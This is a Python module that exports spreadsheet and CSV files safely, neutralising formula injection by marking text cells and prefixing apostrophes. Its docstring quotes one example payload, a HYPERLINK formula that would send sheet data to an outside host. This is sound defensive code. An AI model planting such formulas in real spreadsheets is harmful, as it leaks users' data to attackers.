"""Every .xlsx and .csv qms writes puts its cells through this module: text stays text.

Pure (values in, bytes or cells out).  The writers (``qms export-tthc`` / ``export-processes``
through :func:`write_xlsx` and :func:`write_csv`, the status template and the annual report
through :func:`put`) never hand a value to openpyxl or the csv module themselves, because:

- **formula injection**: openpyxl stores a string starting with ``=`` as a live formula, and a
  spreadsheet program opening a CSV runs a cell starting with ``=``, ``+``, ``-``, ``@``, a tab
  or a CR as one.  A TTHC name such as ``=HYPERLINK("http://x/?"&A2,"x")``, typed by an officer
  or imported from a file, would then send the sheet's data away when a colleague opens it.
  Here every string is a text cell in an .xlsx (marked "shown as text", Excel's quote prefix,
  when it starts like a formula, so editing it does not turn it into one); in a CSV such a
  cell is written with a leading apostrophe (``'=HYPERLINK(...)``), which
  :mod:`qms.kernel.workbook_reader` drops again on import, so an export re-imports unchanged;
- **control characters** stored before :mod:`qms.kernel.text_rules` refused them would make openpyxl
  raise ``IllegalCharacterError`` and the export write nothing: they are left out;
- numbers, booleans and dates stay numbers, booleans and dates (dates as real Excel dates shown
  dd/mm/yyyy; ISO text in a CSV).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Sequence
from typing import Any

from qms.kernel.text_rules import printable

#: How a cell a spreadsheet program would run as a formula starts (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_protect(value: Any) -> Any:
    """A value as a CSV cell: text that would run as a formula gets a leading apostrophe, control
    characters are left out, line breaks inside are LF, dates are ISO, None is empty; numbers as
    they are."""
    if value is None:
        return ""
    if isinstance(value, (dt.date, dt.datetime)):
        return value.isoformat()
    if isinstance(value, str):
        value = printable(value)
        if looks_like_formula(value):
            value = "'" + value
        # a line break inside a cell as LF, which the csv module quotes (a bare CR it writes
        # unquoted, and a reader then ends the record there)
        return value.replace("\r\n", "\n").replace("\r", "\n")
    return value


def csv_unprotect(text: str) -> str:
    """The inverse of :func:`csv_protect` for a cell read from a CSV: ``'=x`` -> ``=x``."""
    return text[1:] if text.startswith("'") and looks_like_formula(text[1:]) else text


def put(cell, value: Any):
    """Set an openpyxl cell (of a normal or a write-only workbook) to ``value`` as data, never as
    a formula; returns the cell."""
    if isinstance(value, str):
        value = printable(value)
        cell.value = value
        cell.data_type = "s"  # openpyxl took a leading "=" for a formula
        if looks_like_formula(value):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def write_xlsx(sheets: Sequence[tuple[str, Sequence[str], Sequence[Sequence[Any]]]]) -> bytes:
    """A workbook with one sheet per ``(name, headers, rows)``: bold frozen header, dates as real
    Excel dates shown dd/mm/yyyy, codes as text (a leading zero or "1.004940" survives), every
    string a text cell.  Written in openpyxl's streaming mode (a province's whole catalogue is
    thousands of rows)."""
    import openpyxl
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = openpyxl.Workbook(write_only=True)
    bold = Font(bold=True)
    for name, headers, rows in sheets:
        ws = book.create_sheet(title=name[:31])
        widths = [len(str(h)) for h in headers]
        for row in rows:
            for i, v in enumerate(row):
                if v is not None:
                    widths[i] = max(widths[i], min(60, 10 if isinstance(v, dt.date) else len(str(v))))
        for i, w in enumerate(widths, start=1):
            ws.column_dimensions[get_column_letter(i)].width = w + 2
        ws.freeze_panes = "A2"
        header = []
        for h in headers:
            cell = put(WriteOnlyCell(ws), h)
            cell.font = bold
            header.append(cell)
        ws.append(header)
        for row in rows:
            out = []
            for v in row:
                if isinstance(v, dt.date):
                    v = WriteOnlyCell(ws, value=v)
                    v.number_format = "DD/MM/YYYY"
                elif isinstance(v, str):
                    v = put(WriteOnlyCell(ws), v)
                out.append(v)
            ws.append(out)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def write_csv(headers: Sequence[str], rows: Sequence[Sequence[Any]]) -> bytes:
    """UTF-8 CSV with a byte-order mark (so Excel shows Vietnamese correctly); dates ISO; text
    that would run as a formula protected (:func:`csv_protect`)."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow([csv_protect(h) for h in headers])
    for row in rows:
        writer.writerow([csv_protect(v) for v in row])
    return ("\ufeff" + buf.getvalue()).encode("utf-8")
